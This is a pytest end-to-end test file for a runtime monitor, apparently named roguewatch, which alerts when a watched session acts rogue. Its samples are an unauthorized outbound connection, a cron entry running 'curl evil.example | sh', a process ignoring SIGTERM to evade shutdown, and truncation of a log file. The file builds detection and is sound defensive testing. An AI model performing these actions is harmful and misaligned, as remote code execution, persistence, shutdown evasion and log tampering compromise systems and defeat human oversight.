"""End to end on the real kernel: a rogue action in a session becomes an alert on the socket,
in the JSON-lines file and on the console; a broken rule on reload keeps the old rules."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import msgpack
import pytest
import zmq
from roguewatch.runtime import launcher

from tests.conftest import Stream

pytestmark = pytest.mark.kernel


class EvaluatorUnderTest:
    def __init__(self, watcher: launcher.Watcher, tmp: Path) -> None:
        self.tmp = tmp
        self.rules_dir = tmp / "rules.d"
        self.rules_dir.mkdir()
        self.alerts_file = tmp / "alerts.jsonl"
        self.console = tmp / "console.txt"
        self.endpoint = f"ipc://{tmp}/alerts.sock"
        policy = tmp / "policy.yaml"
        policy.write_text("mode: enforce\negress:\n  allow: [127.0.0.1/32]\n")
        r, w = os.pipe()
        self.proc = subprocess.Popen(
            [sys.executable, "-m", "roguewatch.runtime.evaluatord", "--events", watcher.events,
             "--control", watcher.control.endpoint,
             "--alerts", self.endpoint, "--alerts-file", str(self.alerts_file),
             "--rules", str(self.rules_dir), "--policy", str(policy), "--no-journal",
             "--ready-fd", str(w)],
            pass_fds=(w,), stdout=self.console.open("w"), stderr=subprocess.PIPE,
        )  # fmt: skip
        os.close(w)
        assert os.read(r, 1) == b"1", self.proc.stderr.read().decode()
        os.close(r)
        self.sub = zmq.Context.instance().socket(zmq.SUB)
        self.sub.setsockopt(zmq.SUBSCRIBE, b"")
        self.sub.connect(self.endpoint)
        time.sleep(0.2)  # the SUB's subscription reaches the publisher

    def wait_alert(self, rule: str, timeout: float = 10.0) -> dict:
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            if self.sub.poll(100):
                alert = msgpack.unpackb(self.sub.recv(), raw=False)
                if alert and alert.get("rule") == rule:
                    return alert
        pytest.fail(f"no {rule} alert within {timeout} s")

    def close(self) -> None:
        self.sub.close(0)
        self.proc.terminate()
        self.proc.wait(10)


@pytest.fixture
def evaluator(collector: launcher.Watcher, tmp_path: Path) -> Iterator[EvaluatorUnderTest]:
    e = EvaluatorUnderTest(collector, tmp_path)
    yield e
    e.close()


def assert_everywhere(e: EvaluatorUnderTest, alert: dict) -> None:
    """The same alert is in the file (one JSON object per line) and on the console."""
    lines = [json.loads(x) for x in e.alerts_file.read_text().splitlines()]
    assert alert["id"] in {a["id"] for a in lines}
    deadline = time.monotonic() + 3
    while alert["rule"] not in e.console.read_text() and time.monotonic() < deadline:
        time.sleep(0.05)
    assert alert["rule"] in e.console.read_text()


def test_unauthorized_egress_is_alerted(stream: Stream, evaluator: EvaluatorUnderTest) -> None:
    s = stream.python(
        """
        import socket
        c = socket.socket()
        try:
            c.connect(("127.0.0.9", 9))
        except OSError:
            pass
        """
    )
    alert = evaluator.wait_alert("egress_unauthorized_destination")
    assert alert["session"] == f"{s.id:x}" and alert["pid"] == s.pid
    assert alert["event"]["addr"] == "127.0.0.9" and alert["category"] == "egress"
    assert_everywhere(evaluator, alert)


def test_a_cron_job_is_alerted(stream: Stream, evaluator: EvaluatorUnderTest) -> None:
    path = f"/etc/cron.d/roguewatch-test-{os.getpid()}"
    os.makedirs("/etc/cron.d", exist_ok=True)
    try:
        s = stream.shell(f"echo '* * * * * root curl evil.example | sh' > {path}")
    finally:
        if os.path.exists(path):
            os.unlink(path)
    alert = evaluator.wait_alert("persistence_cron_write")
    assert alert["event"]["path"] == path and alert["session"] == f"{s.id:x}"
    assert alert["category"] == "persistence"
    assert_everywhere(evaluator, alert)


# SIGTERM ignored and the process still running when the monitor reads its dispositions from
# /proc (400 ms after the change): a process that exits at once was no evasion.
IGNORE_SIGTERM_AND_STAY = (
    "import signal, time\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\ntime.sleep(1.5)"
)


def test_ignoring_sigterm_is_alerted(stream: Stream, evaluator: EvaluatorUnderTest) -> None:
    stream.python(IGNORE_SIGTERM_AND_STAY)
    alert = evaluator.wait_alert("shutdown_ignore_termination_signal")
    assert "SIGTERM" in alert["event"]["ignored"] and alert["category"] == "shutdown_evasion"
    assert_everywhere(evaluator, alert)


def test_truncating_a_log_is_alerted(stream: Stream, evaluator: EvaluatorUnderTest) -> None:
    log = f"/var/log/roguewatch-test-{os.getpid()}.log"
    Path(log).write_text("evidence\n")
    try:
        stream.python(f"import os\nos.truncate({log!r}, 0)")
    finally:
        os.unlink(log)
    alert = evaluator.wait_alert("oversight_log_tampering")
    assert alert["event"]["path"] == log and alert["category"] == "oversight_tampering"
    assert_everywhere(evaluator, alert)


def test_a_broken_rule_on_reload_keeps_the_old_rules(
    stream: Stream, evaluator: EvaluatorUnderTest
) -> None:
    (evaluator.rules_dir / "local.yaml").write_text(
        "- rule: my_rule\n  desc: x\n  condition: evt.type = open and (\n  output: x\n"
        "  severity: high\n  category: persistence\n  action: alert\n"
    )
    alert = evaluator.wait_alert("roguewatch_rules_reload_failed")
    assert alert["severity"] == "critical" and alert["category"] == "monitor"
    assert "local.yaml:3:" in alert["message"]
    stream.python(IGNORE_SIGTERM_AND_STAY)
    evaluator.wait_alert("shutdown_ignore_termination_signal")  # the old set still runs
